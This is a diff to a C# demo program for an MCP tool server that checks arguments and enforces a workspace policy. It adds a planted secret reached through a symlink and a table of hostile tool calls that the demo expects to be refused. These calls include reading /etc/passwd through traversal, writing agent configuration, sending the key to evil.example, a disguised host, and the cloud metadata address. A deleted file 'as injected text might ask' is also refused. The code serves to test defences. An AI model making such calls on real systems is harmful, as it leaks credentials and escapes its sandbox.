@@ -9,6 +9,11 @@ string server = typeof(Program).Assembly.GetCustomAttributes<AssemblyMetadataAtt
 string root = Directory.CreateTempSubdirectory("typedtools-demo-").FullName;
 string workspace = Directory.CreateDirectory(Path.Combine(root, "workspace")).FullName;
 File.WriteAllText(Path.Combine(workspace, "README.md"), "# Demo workspace\nTypedTools checks every argument.\n");
+// Something private next to the workspace, and a link inside the workspace that points at it.
+File.WriteAllText(Path.Combine(root, "secret.txt"), "API_KEY=do-not-leak\n");
+File.CreateSymbolicLink(Path.Combine(workspace, "shortcut.txt"), Path.Combine(root, "secret.txt"));
+string[] serverArguments = [server, "--workspace", workspace, "--outbox", Path.Combine(root, "outbox.jsonl"),
+    "--allow-domain", "docs.example.org", "--allow-domain", "localhost"];
 
 try
 {
@@ -16,7 +21,7 @@ try
     {
         Name = "workspace",
         Command = "dotnet",
-        Arguments = [server, "--workspace", workspace, "--outbox", Path.Combine(root, "outbox.jsonl")],
+        Arguments = serverArguments,
     }));
 
     Console.WriteLine("TypedTools demo: samples/Workspace.Server over stdio, a real MCP client, a temporary workspace.");
@@ -45,11 +50,18 @@ try
         ("send_message", """{"message":{"to":"not-an-address","subject":"Hi","body":"b"}}""", "a [RegularExpression] mismatch"),
         ("fetch_page", """{"url":"//internal.example/admin"}""", "a relative URL"),
         ("delete_file", """{"path":"notes/plan.md","recursive":true}""", "a destructive call with an extra flag"),
-        ("read_file", """{"path":"../../etc/passwd"}""", "traversal out of the workspace"),
+        ("read_file", """{"path":"../../etc/passwd"}""", "policy: traversal out of the workspace"),
+        ("read_file", """{"path":"/etc/passwd"}""", "policy: an absolute path outside"),
+        ("read_file", """{"path":"shortcut.txt"}""", "policy: a link that leaves the workspace"),
+        ("write_file", """{"path":".vscode/mcp.json","content":"{}"}""", "policy: write to agent configuration"),
+        ("fetch_page", """{"url":"https://evil.example/?key=do-not-leak"}""", "policy: private data to another domain"),
+        ("fetch_page", """{"url":"https://docs.example.org@evil.example/"}""", "policy: a disguised host"),
+        ("fetch_page", """{"url":"https://169.254.169.254/latest/meta-data/"}""", "policy: the cloud metadata address"),
+        ("fetch_page", """{"url":"https://localhost/admin"}""", "policy: an allowed name that is loopback"),
     ];
 
-    Console.WriteLine($"{"#",-3}{"tool",-14}{"what",-40}{"outcome"}");
-    Console.WriteLine(new string('-', 110));
+    Console.WriteLine($"{"#",-3}{"tool",-14}{"what",-44}{"outcome"}");
+    Console.WriteLine(new string('-', 120));
     int refused = 0;
     for (int i = 0; i < calls.Length; i++)
     {
@@ -61,7 +73,7 @@ try
             refused++;
             string fields = error.TryGetProperty("details", out JsonElement details)
                 ? string.Join(", ", details.EnumerateArray().Select(d => $"{d.GetProperty("code").GetString()} at {d.GetProperty("field").GetString()}"))
-                : error.GetProperty("code").GetString() + (error.GetProperty("field").GetString() is { } f ? " at " + f : "");
+                : error.GetProperty("code").GetString() + (error.TryGetProperty("field", out JsonElement f) && f.GetString() is { } field ? " at " + field : "");
             outcome = "REFUSED " + fields;
         }
         else
@@ -69,13 +81,29 @@ try
             string text = string.Join(" ", result.Content.OfType<TextContentBlock>().Select(t => t.Text)).ReplaceLineEndings(" ");
             outcome = "ok      " + (text.Length > 60 ? text[..57] + "..." : text);
         }
-        Console.WriteLine($"{i + 1,-3}{tool,-14}{why,-40}{outcome}");
+        Console.WriteLine($"{i + 1,-3}{tool,-14}{why,-44}{outcome}");
     }
     Console.WriteLine();
     Console.WriteLine($"{calls.Length} calls: {calls.Length - refused} ran, {refused} refused before reaching the tool's code (or by the tool itself).");
     Console.WriteLine("What a model reads when a call is refused:");
     CallToolResult sample = await client.CallToolAsync("search_files", Args("""{"query":{"text":"x","options":{"maxResults":2.5,"regex":true}}}"""));
     Console.WriteLine("  " + string.Join("\n  ", sample.Content.OfType<TextContentBlock>().Single().Text.Split('\n')));
+    CallToolResult denied = await client.CallToolAsync("read_file", Args("""{"path":"shortcut.txt"}"""));
+    Console.WriteLine("  " + denied.Content.OfType<TextContentBlock>().Single().Text);
+
+    // The same server for a research task: --profile research-summary shows and allows only read-only tools.
+    await using McpClient research = await McpClient.CreateAsync(new StdioClientTransport(new StdioClientTransportOptions
+    {
+        Name = "workspace-research",
+        Command = "dotnet",
+        Arguments = [.. serverArguments, "--profile", "research-summary"],
+    }));
+    Console.WriteLine();
+    Console.WriteLine("With --profile research-summary, tools/list shows: " +
+        string.Join(", ", (await research.ListToolsAsync()).Select(t => t.Name).Order(StringComparer.Ordinal)));
+    CallToolResult blocked = await research.CallToolAsync("delete_file", Args("""{"path":"README.md"}"""));
+    Console.WriteLine("and a call to delete_file (as injected text might ask) is refused: " +
+        blocked.StructuredContent!.Value.GetProperty("error").GetProperty("code").GetString());
     return 0;
 }
 finally
